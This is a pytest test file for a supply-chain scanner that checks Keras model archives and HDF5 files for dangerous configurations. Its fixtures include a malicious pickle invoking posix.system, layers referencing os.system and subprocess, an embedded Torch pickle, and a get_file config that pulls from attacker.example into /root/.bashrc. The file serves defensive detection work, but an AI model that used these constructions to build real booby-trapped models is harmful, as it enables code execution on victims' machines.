"""``supplychain scan`` on Keras models: every config vector caught at high or above."""

from __future__ import annotations

import base64
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import RunCli

EVIL_PICKLE = b"\x80\x02cposix\nsystem\nX\x04\x00\x00\x00true\x85R."
WEIGHTS_H5 = b"\x89HDF\r\n\x1a\n" + b"\x00" * 64


def _layer(class_name: str, config: dict[str, Any], module: str = "keras.layers") -> dict[str, Any]:
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None}


def _model(*layers: dict[str, Any]) -> dict[str, Any]:
    """A Keras 3 Sequential config, as model.save writes it."""
    dense = _layer("Dense", {"name": "dense", "units": 2, "activation": "relu"})
    inputs = _layer("InputLayer", {"batch_shape": [None, 4], "name": "input_layer"})
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": [inputs, dense, *layers]},
        "registered_name": None,
        "compile_config": None,
    }


def _keras_zip(path: Path, config: dict[str, Any], weights: str = "model.weights.h5") -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
        archive.writestr("config.json", json.dumps(config))
        archive.writestr(weights, WEIGHTS_H5 if weights.endswith(".h5") else _empty_npz())
    return path


def _empty_npz() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("dense/0.npy", b"\x93NUMPY\x01\x00v\x00" + _npy_header())
    return buffer.getvalue()


def _npy_header() -> bytes:
    header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (0,), }"
    return header.ljust(117) + b"\n"


def _torch_zip(pickle: bytes) -> bytes:
    """What torch.save writes, with ``pickle`` as data.pkl."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("module/data.pkl", pickle)
        archive.writestr("module/byteorder", "little")
        archive.writestr("module/version", "3\n")
    return buffer.getvalue()


LAMBDA = _layer(
    "Lambda",
    {
        "name": "lambda",
        "function": {
            "class_name": "__lambda__",
            "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAACAAAA", "defaults": None, "closure": None},
        },
    },
)


def _scan(run_cli: RunCli, path: Path) -> tuple[int, dict[str, Any]]:
    result = run_cli("scan", "--json", path)
    report = json.loads(result.stdout)
    return result.exit_code, report["files"][0]


def _rules(result: dict[str, Any]) -> set[tuple[str, str]]:
    return {(f["rule"], f["severity"]) for f in result["findings"]}


def test_a_lambda_with_npz_weights_is_caught(run_cli: RunCli, tmp_path: Path) -> None:
    path = _keras_zip(tmp_path / "m.keras", _model(LAMBDA), weights="model.weights.npz")
    code, result = _scan(run_cli, path)
    assert code == 1 and result["format"] == "keras"
    assert ("keras.lambda-layer", "high") in _rules(result)


@pytest.mark.parametrize(
    ("module", "class_name", "severity"),
    [("os", "system", "critical"), ("mypkg.layers", "Evil", "high")],
)
def test_a_module_outside_keras_is_caught(
    run_cli: RunCli, tmp_path: Path, module: str, class_name: str, severity: str
) -> None:
    layer = _layer(class_name, {"command": "id"}, module=module)
    code, result = _scan(run_cli, _keras_zip(tmp_path / "m.keras", _model(layer)))
    assert code == 1
    assert ("keras.untrusted-module", severity) in _rules(result)
    assert f"{module}.{class_name}" in json.dumps(result["findings"])


def test_enable_unsafe_deserialization_is_caught(run_cli: RunCli, tmp_path: Path) -> None:
    # CVE-2025-9906: a function reference resolved through the trusted keras.config module
    switch = {
        "module": "keras.config",
        "class_name": "function",
        "config": "enable_unsafe_deserialization",
        "registered_name": "function",
    }
    layer = _layer("Activation", {"name": "a", "activation": switch})
    code, result = _scan(run_cli, _keras_zip(tmp_path / "m.keras", _model(layer, LAMBDA)))
    assert code == 1
    rules = _rules(result)
    assert ("keras.dangerous-function", "high") in rules and ("keras.lambda-layer", "high") in rules


def test_get_file_is_caught(run_cli: RunCli, tmp_path: Path) -> None:
    # CVE-2025-8747: keras.utils.get_file downloads a URL to any path while loading
    fetch = _layer(
        "get_file",
        {"origin": "https://attacker.example/payload", "fname": "/root/.bashrc"},
        module="keras.utils",
    )
    code, result = _scan(run_cli, _keras_zip(tmp_path / "m.keras", _model(fetch)))
    assert code == 1
    assert ("keras.dangerous-function", "high") in _rules(result)


def test_a_torch_module_wrapper_is_caught_and_its_pickle_scanned(
    run_cli: RunCli, tmp_path: Path
) -> None:
    embedded = base64.b64encode(_torch_zip(EVIL_PICKLE)).decode()
    wrapper = _layer(
        "TorchModuleWrapper",
        {"name": "torch_module_wrapper", "module": embedded},
        module="keras.src.utils.torch_utils",
    )
    code, result = _scan(run_cli, _keras_zip(tmp_path / "m.keras", _model(wrapper)))
    assert code == 1 and result["max_severity"] == "critical"
    rules = _rules(result)
    assert ("keras.torch-module-wrapper", "high") in rules
    gadget = [f for f in result["findings"] if f["rule"] == "pickle.gadget"]
    assert gadget and gadget[0]["symbol"] == "posix.system"
    assert "module/data.pkl" in gadget[0]["location"]


def test_a_plain_keras_archive_is_clean(run_cli: RunCli, tmp_path: Path) -> None:
    code, result = _scan(run_cli, _keras_zip(tmp_path / "m.keras", _model()))
    assert code == 0 and result["format"] == "keras" and result["findings"] == []


def _h5(path: Path, config: dict[str, Any] | None) -> Path:
    h5py = pytest.importorskip("h5py")
    with h5py.File(path, "w") as hdf5:
        if config is not None:
            hdf5.attrs["model_config"] = json.dumps(config)
            hdf5.attrs["keras_version"] = "2.15.0"
            hdf5.attrs["backend"] = "tensorflow"
        hdf5.create_dataset("model_weights/dense/dense/kernel:0", data=[[0.5, 1.0]])
    return path


def test_a_keras_2_h5_lambda_is_caught(run_cli: RunCli, tmp_path: Path) -> None:
    # Keras 2 writes the Lambda's marshalled bytecode as a [code, defaults, closure] triple
    lam = {
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "function": ["4wEAAAAAAAAAAAAAAAEAAAACAAAA", None, None],
            "function_type": "lambda",
        },
    }
    code, result = _scan(run_cli, _h5(tmp_path / "model.h5", _model(lam)))
    assert code == 1 and result["format"] == "hdf5"
    assert ("keras.lambda-layer", "high") in _rules(result)


def test_an_h5_with_a_foreign_module_is_caught(run_cli: RunCli, tmp_path: Path) -> None:
    layer = _layer("check_output", {}, module="subprocess")
    code, result = _scan(run_cli, _h5(tmp_path / "model.h5", _model(layer)))
    assert code == 1 and result["max_severity"] == "critical"


def test_a_weights_only_h5_is_clean(run_cli: RunCli, tmp_path: Path) -> None:
    code, result = _scan(run_cli, _h5(tmp_path / "model.weights.h5", None))
    assert code == 0 and result["status"] == "scanned"


def test_without_h5py_an_h5_could_not_be_scanned(
    run_cli: RunCli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import sys

    path = _h5(tmp_path / "model.h5", _model(LAMBDA))
    monkeypatch.setitem(sys.modules, "h5py", None)
    code, result = _scan(run_cli, path)
    assert code == 3 and result["status"] == "could-not-scan"
    assert "supplychain[keras]" in result["reason"]


def test_a_config_without_weights_is_still_checked(run_cli: RunCli, tmp_path: Path) -> None:
    # load_model deserializes config.json before it looks for weights
    path = tmp_path / "m.keras"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", json.dumps(_model(LAMBDA)))
    code, result = _scan(run_cli, path)
    assert code == 1
    assert ("keras.lambda-layer", "high") in _rules(result)


def test_a_layer_merely_named_like_a_function_is_clean(run_cli: RunCli, tmp_path: Path) -> None:
    layer = _layer("Dense", {"name": "get_file", "units": 1})
    code, result = _scan(run_cli, _keras_zip(tmp_path / "m.keras", _model(layer)))
    assert code == 0 and result["findings"] == []
